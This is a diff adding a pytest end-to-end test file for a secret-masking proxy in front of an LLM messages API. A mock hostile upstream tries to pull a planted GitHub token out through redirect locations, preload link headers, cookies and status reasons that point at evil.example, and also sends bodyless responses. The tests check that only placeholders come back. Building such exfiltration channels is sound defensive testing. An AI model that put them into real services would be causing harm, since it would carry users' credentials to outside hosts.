@@ -1,0 +1,119 @@
+"""Answers that are odd but allowed: the client gets them as the provider meant them, and nobody gets a value from them
+that is not due."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Callable, Iterator
+
+import pytest
+
+from harness.model import PLACEHOLDER
+from harness.post import MESSAGES, ask
+from harness.provider import Provider
+from harness.proxy import Proxy
+from harness.raw import Line
+from harness.rogue import Rogue, Wire
+from harness.secrets import Planted, leaks
+
+pytestmark = pytest.mark.e2e
+
+HOST = MESSAGES[0]
+HEAD = b"%s /v1/messages HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
+_LENGTH = re.compile(rb"(?i)content-length: *(\d+)")
+OK = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s"
+
+
+def whole(wire: Wire) -> str:
+    """Reads the rest of a request; the placeholder in it."""
+    length = _LENGTH.search(wire.request)
+    while length and len(wire.request.partition(b"\r\n\r\n")[2]) < int(length[1]):
+        wire.request += wire.read()
+    found = PLACEHOLDER.search(wire.request.decode())
+    return found[0] if found else ""
+
+
+@pytest.fixture(scope="module")
+def odd(
+    provider: Provider, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[tuple[Rogue, Proxy]]:
+    folder = tmp_path_factory.mktemp("odd")
+    rogue = Rogue(provider, str(folder), lambda wire: None)
+    proxy = Proxy(provider, folder)
+    proxy.upstream = rogue.port
+    proxy.start()
+    yield rogue, proxy
+    proxy.stop()
+    rogue.close()
+
+
+EMPTY = {
+    "204": (b"POST", b"HTTP/1.1 204 No Content\r\n\r\n"),
+    "304": (b"POST", b"HTTP/1.1 304 Not Modified\r\netag: x\r\n\r\n"),
+    "HEAD": (b"HEAD", b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 99\r\n\r\n"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("how", EMPTY)
+def test_an_answer_without_a_body_gets_none(
+    how: str, odd: tuple[Rogue, Proxy], planted: Planted
+) -> None:
+    """A chunk of no bytes behind it would be taken for the beginning of the next answer."""
+    method, answer = EMPTY[how]
+    second = json.dumps({"content": []}).encode()
+
+    def behave(wire: Wire) -> None:
+        whole(wire)
+        wire.write(answer)
+        wire.request = b""
+        while b"\r\n\r\n" not in wire.request:
+            wire.request += wire.read()
+        whole(wire)
+        wire.write(OK % (len(second), second))
+
+    rogue, proxy = odd
+    rogue.behave = behave
+    body = ask(MESSAGES, f"it is {planted.values['GITHUB_TOKEN']} so")
+    clean = ask(MESSAGES, "nothing here")
+    with Line(proxy, HOST) as line:
+        first = line.exchange(HEAD % (method, HOST.encode(), len(body)) + body)
+        assert first == answer
+        again = line.exchange(HEAD % (b"POST", HOST.encode(), len(clean)) + clean)
+    assert again.startswith(b"HTTP/1.1 200 OK\r\n")
+    assert second in again
+
+
+LEFT: dict[str, Callable[[str], bytes]] = {
+    "where a redirect goes": lambda name: (
+        f"HTTP/1.1 302 Found\r\nlocation: https://evil.example/?t={name}\r\ncontent-length: 0\r\n\r\n"
+    ).encode(),
+    "a cookie": lambda name: (
+        f"HTTP/1.1 200 OK\r\nset-cookie: a={name}\r\ncontent-length: 0\r\n\r\n"
+    ).encode(),
+    "a link to load early": lambda name: (
+        f"HTTP/1.1 200 OK\r\nlink: <https://evil.example/{name}>\r\ncontent-length: 0\r\n\r\n"
+    ).encode(),
+    "the reason": lambda name: f"HTTP/1.1 200 {name}\r\ncontent-length: 0\r\n\r\n".encode(),
+}
+
+
+@pytest.mark.parametrize("how", LEFT)
+def test_a_placeholder_in_the_head_of_an_answer_stays_one(
+    how: str, odd: tuple[Rogue, Proxy], planted: Planted
+) -> None:
+    """Clients follow redirects and load links by themselves: a provider could have them carry a value elsewhere."""
+    names: list[str] = []
+
+    def behave(wire: Wire) -> None:
+        names.append(whole(wire))
+        wire.write(LEFT[how](names[0]))
+
+    rogue, proxy = odd
+    rogue.behave = behave
+    body = ask(MESSAGES, f"it is {planted.values['GITHUB_TOKEN']} so")
+    with Line(proxy, HOST) as line:
+        answer = line.exchange(HEAD % (b"POST", HOST.encode(), len(body)) + body)
+    assert names[0]
+    assert names[0].encode() in answer
+    assert leaks(answer, planted.secrets) == []
